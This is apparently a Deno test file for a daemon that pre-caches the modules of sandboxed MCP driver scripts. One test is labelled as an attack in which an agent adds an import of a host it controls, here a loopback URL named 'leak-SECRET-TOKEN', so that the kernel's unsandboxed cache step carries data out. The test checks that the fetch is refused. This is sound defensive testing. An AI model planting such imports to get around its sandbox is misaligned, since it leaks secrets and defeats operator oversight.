/**
 * A Deno-script driver's modules are cached by the kernel before the driver runs: the sandbox has
 * no network, so a driver started from an empty Deno cache could not fetch what it imports. The
 * cold test gives the fake server a Deno cache of its own that starts empty.
 */
import assert from "node:assert/strict";
import { denoCacheArgv, precacheDenoDriver } from "../../drivers/deno_precache.ts";
import type { DaemonClient } from "../../actors/client.ts";
import {
  auditRows,
  call,
  closeClient,
  connect,
  killDaemonProcess,
  ostk,
  type Project,
  startDaemonProcess,
  withProject,
} from "../helpers/daemon_fixture.ts";
import { fakeDriverLine, networkEnv } from "./mcp_fixture.ts";

Deno.test("denoCacheArgv: keeps what resolves the graph, drops permissions and script args", () => {
  const cases: [string[], string[] | undefined][] = [
    [["deno", "run", "s.ts"], ["deno", "cache", "s.ts"]],
    [
      ["/bin/deno", "run", "-A", "--frozen", "-c", "d.json", "s.ts", "--config", "x"],
      ["/bin/deno", "cache", "--frozen", "-c", "d.json", "s.ts"],
    ],
    [
      ["deno", "run", "--no-lock", "--config=d.json", "--allow-read=/a", "--lock", "l", "s.ts"],
      ["deno", "cache", "--no-lock", "--config=d.json", "--lock", "l", "s.ts"],
    ],
    [
      ["deno", "run", "--import-map", "m.json", "--node-modules-dir=auto", "npm:srv@1"],
      ["deno", "cache", "--import-map", "m.json", "--node-modules-dir=auto", "npm:srv@1"],
    ],
    [
      ["deno", "run", "--seed", "1", "--location", "http://x/", "--unstable-kv", "s.ts"],
      ["deno", "cache", "--unstable-kv", "s.ts"],
    ],
    [
      ["deno", "run", "--preload", "p.ts", "--require=r.cjs", "-q", "s.ts"],
      ["deno", "cache", "-q", "p.ts", "r.cjs", "s.ts"],
    ],
    [["deno", "run", "--allow-scripts", "s.ts"], ["deno", "cache", "s.ts"]],
    [["deno", "run", "-A"], undefined],
    [["deno", "run", "--config"], undefined],
    [["deno", "serve", "s.ts"], undefined],
    [["node", "run", "s.ts"], undefined],
    [["/usr/bin/denoify", "run", "s.ts"], undefined],
  ];
  for (const [command, want] of cases) {
    assert.deepEqual(denoCacheArgv(command), want, command.join(" "));
  }
});

interface CallAnswer {
  via: string;
  result: { content: { text: string }[]; isError?: boolean };
}

async function callFake(project: Project, tool: string, args = {}) {
  return await ostk(project, ["driver", "call", "fake", tool, JSON.stringify(args), "--json"]);
}

Deno.test("daemon: a Deno-script driver starts sandboxed from an empty Deno cache", async () => {
  await withProject(async (project) => {
    const denoDir = `${project.scratch.dir}/deno-cache`;
    await Deno.mkdir(denoDir);
    await Deno.writeTextFile(project.paths.humanfile, (await fakeDriverLine({ denoDir })) + "\n", {
      append: true,
    });
    project.env = { ...project.env, ...networkEnv() };
    const daemon = await startDaemonProcess(project);
    try {
      const r = await callFake(project, "echo", { text: "cold" });
      assert.equal(r.code, 0, r.stderr);
      const answer = JSON.parse(r.stdout) as CallAnswer;
      assert.equal(answer.via, "daemon");
      assert.equal(answer.result.content[0].text, "echo: cold");
      // The kernel filled the driver's own cache; the sandbox itself still has no network.
      const sdk = `${denoDir}/npm/registry.npmjs.org/@modelcontextprotocol/sdk`;
      assert.ok((await Deno.stat(sdk)).isDirectory, `${sdk} holds the SDK`);
      const rows = await auditRows(project);
      assert.equal(rows.filter((row) => row.event === "driver.start").length, 1);
    } finally {
      await killDaemonProcess(daemon);
    }
  });
});

Deno.test("daemon: a driver whose modules cannot be cached fails with Deno's reason", async () => {
  await withProject(async (project) => {
    const script = `${project.scratch.dir}/broken_driver.ts`;
    await Deno.writeTextFile(script, 'import "./no_such_module.ts";\n');
    const line = `mcp: fake ${Deno.execPath()} run --no-config ${script}`;
    await Deno.writeTextFile(project.paths.humanfile, line + "\n", { append: true });
    const daemon = await startDaemonProcess(project);
    let client: DaemonClient | undefined;
    try {
      client = await connect(project);
      const err = await call(client, "driver/call", { name: "fake", tool: "echo", args: {} })
        .then(() => undefined, (e: Error) => e);
      assert.ok(err, "the call failed");
      assert.match(err.message, /driver 'fake': caching its Deno modules before sandboxing failed/);
      assert.match(err.message, /Module not found .*no_such_module\.ts/);
      assert.doesNotMatch(err.message, /\n/);
      const { drivers } = await call<
        { drivers: { name: string; state: string; error?: string }[] }
      >(
        client,
        "driver/list",
        {},
      );
      const fake = drivers.find((d) => d.name === "fake");
      assert.equal(fake?.state, "failed", JSON.stringify(drivers));
      assert.match(fake?.error ?? "", /caching its Deno modules/);
    } finally {
      if (client) await closeClient(client);
      await killDaemonProcess(daemon);
    }
  });
});

// Attack: an agent that can write a Deno driver's script adds an import of a host it controls,
// hoping the kernel's unsandboxed `deno cache` carries its data out. Deno's import allow-list
// (no --allow-import on the driver line) must refuse the fetch before any byte leaves.
Deno.test("precache: a driver script's import of a loopback host is refused, nothing is fetched", async () => {
  const dir = await Deno.makeTempDir({ prefix: "ostk-precache-" });
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const { port } = listener.addr as Deno.NetAddr;
  let reached = false;
  const accepting = (async () => {
    for await (const conn of listener) {
      reached = true;
      conn.close();
    }
  })();
  try {
    await Deno.writeTextFile(
      `${dir}/server.ts`,
      `import "http://127.0.0.1:${port}/leak-SECRET-TOKEN.ts";\n`,
    );
    const entry = {
      name: "evil",
      kind: "mcp" as const,
      command: [Deno.execPath(), "run", "--no-lock", `${dir}/server.ts`],
      env: { DENO_DIR: `${dir}/cache` },
      line: 1,
    };
    await assert.rejects(
      precacheDenoDriver(entry, dir),
      (e: Error) =>
        /driver 'evil': caching its Deno modules/.test(e.message) &&
        /import access/.test(e.message),
    );
    assert.equal(reached, false, "the kernel's deno cache connected to the agent's host");
  } finally {
    listener.close();
    await accepting.catch(() => {/* closed */});
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("precache: deno cache gets the fetch settings of ours, never our other variables", async () => {
  const dir = await Deno.realPath(await Deno.makeTempDir({ prefix: "ostk-precache-env-" }));
  // A stand-in `deno` that records the environment it was given.
  await Deno.writeTextFile(`${dir}/deno`, `#!/bin/sh\nenv > "${dir}/seen.env"\n`, {
    mode: 0o755,
  });
  Deno.env.set("OSTK_TEST_OPERATOR_TOKEN", "sk-not-for-agents");
  Deno.env.set("HTTPS_PROXY", "http://proxy.invalid:3128");
  try {
    await precacheDenoDriver({
      name: "envcheck",
      kind: "mcp",
      command: [`${dir}/deno`, "run", "server.ts"],
      env: { DRIVER_OWN: "1" },
      line: 1,
    }, dir);
    const seen = await Deno.readTextFile(`${dir}/seen.env`);
    assert.doesNotMatch(seen, /OSTK_TEST_OPERATOR_TOKEN|sk-not-for-agents/);
    assert.match(seen, /^HTTPS_PROXY=http:\/\/proxy\.invalid:3128$/m);
    assert.match(seen, /^DRIVER_OWN=1$/m);
  } finally {
    Deno.env.delete("OSTK_TEST_OPERATOR_TOKEN");
    Deno.env.delete("HTTPS_PROXY");
    await Deno.remove(dir, { recursive: true });
  }
});
